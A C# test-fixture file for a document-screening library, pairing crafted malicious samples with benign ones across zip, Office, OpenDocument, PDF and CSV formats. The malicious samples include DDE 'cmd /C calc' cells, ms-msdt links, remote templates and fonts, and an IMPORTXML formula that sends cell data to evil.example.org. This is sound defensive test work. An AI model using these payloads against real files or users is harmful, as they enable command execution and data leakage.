using System.Text;
using AreaSend.FileChecks.Tests.Samples;
using static AreaSend.FileChecks.Tests.OddFile;

namespace AreaSend.FileChecks.Tests;

/// <summary>Files of the kinds that were attacked and reported, made anew from the words of the report alone; and sound ones that stand beside them.</summary>
internal static class OddMore
{
    private const string Command = "A field or cell in the file would run a command";
    private const string External = "The file draws on something outside it";
    private const string Runs = "A link in the file would start something";
    private const string Action = "The PDF contains scripts";
    private const string Href = """xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href""";
    private const string Slide = """xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" presentation:action""";

    public static OddFile[] All => [.. Archives, .. Words, .. Workbooks, .. OpenDocuments, .. Pdfs, .. Texts, .. Old];

    private static OddFile[] Archives =>
    [
        Twins("the sign of Kelvin", "\u212A.txt", "k.txt"),
        Twins("a sharp s", "Stra\u00DFe.txt", "STRASSE.txt"),
        Twins("a Greek letter's second code", "\u0390.txt", "\u1FD3.txt"),
        Twins("a Chinese letter's second code", "\u8C48.txt", "\uF900.txt"),
        Twins("a Korean syllable and its parts", "\uAC00.txt", "\u1100\u1161.txt"),
        Twins("an accent's second code", "a\u0340.txt", "a\u0300.txt"),
        Twins("letters joined", "\uFB01le.txt", "file.txt"),
        Refused("zip: a device with a raised figure", "plans.zip", "Windows takes COM\u00B9 for COM1", "archive-name", "The archive holds a file whose name", () => new ZipSample().Add("COM\u00B9.txt", "a").ToBytes()),
        Refused("zip: a second stream of a file", "plans.zip", "Windows hides what stands behind the colon", "archive-name", "The archive holds a file whose name", () => new ZipSample().Add("plan.txt:more.txt", "a").ToBytes()),
        Refused("zip: a name with a zero in it", "plans.zip", "some programs end the name there", "archive-name", "The archive holds a file whose name", () => new ZipSample().Add("a.exe\0.txt", "a").ToBytes()),
        Refused("zip: headers that are masked", "plans.zip", "a directory behind a password", "encrypted", "The file is protected", () => new ZipSample().Add("a.txt", "a", new ZipLie { Flags = 0x2000 }).ToBytes()),
        Refused("zip: a patch to a file elsewhere", "plans.zip", "only the sender's program can put it together", "archive-packing", "The archive is packed in a way", () => new ZipSample().Add("a.txt", "a", new ZipLie { Flags = 0x0020 }).ToBytes()),
        Taken("zip: names in Greek and Polish", "plans.zip", "letters of their own are no twins", FileKind.Zip, () => new ZipSample().Add("\u03A9.txt", "a").Add("\u0141.txt", "a").Add("L.txt", "a").ToBytes()),
    ];

    private static OddFile[] Words =>
    [
        Refused("field: a link with its switch first", "plan.docx", "what is clicked stands behind the switch", "link-that-runs", Runs, () => Docx("HYPERLINK \\n \"ms-msdt:/id x\"")),
        Refused("field: a link with a place first", "plan.docx", "the place is not what is opened", "link-that-runs", Runs, () => Docx("HYPERLINK \\l \"top\" \"search-ms:query=x\"")),
        Taken("field: a link with a place and a tip", "plan.docx", "a tip may have a colon", FileKind.Docx, () => Docx("HYPERLINK \"https://example.org\" \\o \"Note: see page 2\" \\t \"_blank\"")),
        Taken("field: a link within the document", "plan.docx", "every table of contents has them", FileKind.Docx, () => Docx("HYPERLINK \\l \"_Toc123456\"")),
        Refused("Word: a web page taken in", "plan.docx", "Word makes it part of the document on opening", "embedded-object", "Another file is embedded", () => OfficeSample.Docx().Relation("aFChunk", "page.mht").Part("word/page.mht", "MIME-Version: 1.0", "message/rfc822").ToBytes()),
        Refused("PowerPoint: a click that runs a macro", "plan.pptx", "in another book", "link-that-runs", Runs, () => OfficeSample.Pptx().Part("ppt/slides/slide1.xml", """<x xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:hlinkClick action="ppaction://macro?name=Start"/></x>""").ToBytes()),
    ];

    private static OddFile[] Workbooks =>
    [
        Refused("Excel: a command in a rule for colours", "list.xlsx", "the value of an icon set is a formula", "command", Command, () => OfficeSample.Xlsx().Part("xl/worksheets/sheet2.xml", """<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><conditionalFormatting sqref="A1"><cfRule type="iconSet"><iconSet><cfvo type="formula" val="cmd|'/C calc'!A0"/></iconSet></cfRule></conditionalFormatting></worksheet>""", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml").ToBytes()),
        Refused("Excel: a command in a name", "list.xlsx", "a name is a formula", "command", Command, () => OfficeSample.Xlsx(properties: "<definedNames><definedName name=\"a\">cmd|'/C calc'!A0</definedName></definedNames>").ToBytes()),
        Refused("Excel: a program that feeds a cell", "list.xlsx", "RTD starts it", "external-link", External, () => Formula("RTD(\"fictional.server\",,\"x\")")),
        Refused("Excel: a text that is imported", "list.xlsx", "a function of 2025 that asks another machine", "external-link", External, () => Formula("_xlfn.IMPORTCSV(\"https://evil.example.org/a.csv\")")),
        Taken("Excel: colours by a formula", "list.xlsx", "an ordinary rule", FileKind.Xlsx, () => OfficeSample.Xlsx().Part("xl/worksheets/sheet2.xml", """<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><conditionalFormatting sqref="A1"><cfRule type="colorScale"><colorScale><cfvo type="formula" val="$B$1*2"/><cfvo type="max"/></colorScale></cfRule></conditionalFormatting></worksheet>""", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml").ToBytes()),
    ];

    private static OddFile[] OpenDocuments =>
    [
        Refused("OpenDocument: a link to a command of LibreOffice", "plan.odt", "runs without a question (CVE-2023-6186)", "link-that-runs", Runs, () => Open("text", $"<a {Href}=\".uno:Open\"/>").ToBytes()),
        Refused("OpenDocument: a link to a script", "plan.odt", "of the reader's own installation", "link-that-runs", Runs, () => Open("text", $"<a {Href}=\"vnd.sun.star.script:x.py$main?language=Python&amp;location=share\"/>").ToBytes()),
        Refused("OpenDocument: a form that is sent", "plan.odt", "to another machine", "external-link", External, () => Open("text", """<xf:submission xmlns:xf="http://www.w3.org/2002/xforms" action="https://evil.example.org/x" method="post"/>""").ToBytes()),
        Refused("OpenDocument: a range that asks a database", "list.ods", "it is asked anew on opening", "data-connection", "The file has a connection", () => Open("spreadsheet", "<database-source-sql/>").ToBytes()),
        Refused("OpenDocument: a slide that starts a program", "plan.odp", "on a click", "macros", "The file contains macros", () => Open("presentation", $"<presentation:event-listener {Slide}=\"execute\"/>").ToBytes()),
        Taken("OpenDocument: a slide that leads to the next", "plan.odp", "a button in most slide shows", FileKind.Odp, () => Open("presentation", $"<presentation:event-listener {Slide}=\"next-page\"/>").ToBytes()),
        Refused("OpenDocument: a font from elsewhere", "plan.odt", "is fetched on opening", "external-link", External, () => Open("text", $"<font-face-uri {Href}=\"//evil.example.org/a.ttf\"/>").ToBytes()),
        Taken("OpenDocument: a chart that points at its sheet", "list.ods", "LibreOffice writes it for every chart", FileKind.Ods, () => Open("spreadsheet", "<x/>").Add("Object 1/content.xml", $"<chart {Href}=\"..\"/>").ToBytes()),
        Refused("OpenDocument: a chart that points out of the file", "list.ods", "one folder too far", "external-link", External, () => Open("spreadsheet", "<x/>").Add("Object 1/content.xml", $"<chart {Href}=\"../../other.ods\"/>").ToBytes()),
        Taken("OpenDocument: a template on the author's drive", "plan.odt", "LibreOffice notes where it lies", FileKind.Odt, () => Open("text", "<x/>").Add("meta.xml", $"<template {Href}=\"../../Templates/letter.ott\"/>").ToBytes()),
        Refused("OpenDocument: a template on a server", "plan.odt", "is looked for on opening", "external-link", External, () => Open("text", "<x/>").Add("meta.xml", $"<template {Href}=\"https://evil.example.org/letter.ott\"/>").ToBytes()),
    ];

    private static OddFile[] Pdfs =>
    [
        Refused("PDF with a thread of another file", "plan.pdf", "on a share, on opening", "pdf-action", Action, () => PdfSample.Of("/OpenAction<</S/Thread/F(\\\\\\\\evil.example.org\\\\s\\\\x.pdf)/D 0>>")),
        Refused("PDF with a page of another file", "plan.pdf", "a reference is drawn when the page is", "pdf-action", Action, () => PdfSample.Of("/X<</Ref<</F<</Type/Filespec/FS/URL/F(https://evil.example.org/x.pdf)>>/Page 0>>>>")),
        Refused("PDF with the bytes of a stream elsewhere", "plan.pdf", "fetched in place of what is in the file", "pdf-action", Action, () => PdfSample.Of(objects: PdfSample.Stream("/F(//evil.example.org/s/x.bin)", []))),
        Refused("PDF with a script as an address in two bytes a letter", "plan.pdf", "some programs read UTF-16 there", "pdf-action", Action, () => PdfSample.Of("/X<</S/URI/URI<FEFF006A006100760061007300630072006900700074003A0078>>>")),
        Taken("PDF with the name of a file", "plan.pdf", "flags and names are called F too", FileKind.Pdf, () => PdfSample.Of("/X<</Subtype/Link/F 4>>/Y<</F(plan.pdf)>>")),
    ];

    private static OddFile[] Texts =>
    [
        Refused("link that starts a program in a CSV", "list.csv", "a click is enough", "link-that-runs", Runs, () => "Name\r\n\"=HYPERLINK(\"\"ms-msdt:/id x\"\",\"\"Open\"\")\"\r\n"u8.ToArray()),
        Refused("table that is imported in a CSV", "list.csv", "Google Sheets asks another machine", "external-link", External, () => "Name\r\n\"=IMPORTXML(CONCAT(\"\"https://evil.example.org/?\"\",A1),\"\"//a\"\")\"\r\n"u8.ToArray()),
        Refused("command behind a sum in a CSV", "list.csv", "the command stands within the formula", "command", Command, () => "Name\r\n=1+IF(1,cmd|' /C calc'!A0,2)\r\n"u8.ToArray()),
        Elsewhere("on a share", @"='\\evil\s\[x.xlsx]S'!A1"),
        Elsewhere("on a page", "='http://evil.example.org/[x.xlsx]S'!A1"),
        Elsewhere("of LibreOffice", "='file://evil/s/x.ods'#$S.A1"),
        Elsewhere("in brackets", "=[http://evil.example.org/x.xlsx]S!A1"),
        Taken("addresses in notes of a CSV", "list.csv", "in brackets and apostrophes, as people write them", FileKind.Text, () => "Name\r\n- see [https://example.org/#a] or 'https://example.org'\r\n"u8.ToArray()),
        Refused("command behind a blank that parts cells", "list.csv", "sep= with a space", "command", Command, () => "sep= \r\nx =cmd|'/C calc'!A0\r\n"u8.ToArray()),
        Taken("link to a page in a CSV", "list.csv", "an ordinary one", FileKind.Text, () => "Name\r\n\"=HYPERLINK(\"\"https://example.org\"\",\"\"Page\"\")\"\r\n"u8.ToArray()),
    ];

    private static OddFile[] Old =>
    [
        Refused("old workbook in capitals beside another", "list.xls", "one name to OLE2, two to a program that compares letters", "two-readings", "The file contradicts itself",
            () => new CompoundSample().Stream("Workbook", LegacySample.Xls()).Stream("WORKBOOK", LegacySample.Xls(LegacySample.Sheet(isMacro: true))).ToBytes()),
        Refused("old document with a package beside it", "plan.doc", "a file of any kind", "embedded-object", "Another file is embedded", () => new CompoundSample().Stream("WordDocument", LegacySample.Doc()).Stream("package", "MZ"u8.ToArray()).ToBytes()),
    ];

    private static OddFile Elsewhere(string name, string cell) => Refused(
        "cell of another book in a CSV: " + name, "list.csv", "the program fetches it", "external-link", External, () => Encoding.UTF8.GetBytes($"Name\r\n{cell}\r\n"));

    private static OddFile Twins(string name, string one, string other) => Refused(
        "zip twins: " + name, "plans.zip", "one file on a Mac", "archive-twice", "The archive holds two files with one name", () => new ZipSample().Add(one, "a").Add(other, "b").ToBytes());

    private static byte[] Docx(string code) => OfficeSample.Docx(
        $"""<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{System.Security.SecurityElement.Escape(code)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>""").ToBytes();

    private static byte[] Formula(string formula) =>
        OfficeSample.Xlsx($"""<row r="1"><c r="A1"><f>{System.Security.SecurityElement.Escape(formula)}</f><v>1</v></c></row>""").ToBytes();

    private static ZipSample Open(string type, string content) => new ZipSample()
        .Add("mimetype", "application/vnd.oasis.opendocument." + type, new ZipLie { IsStored = true })
        .Add("content.xml", $"<content>{content}</content>");
}
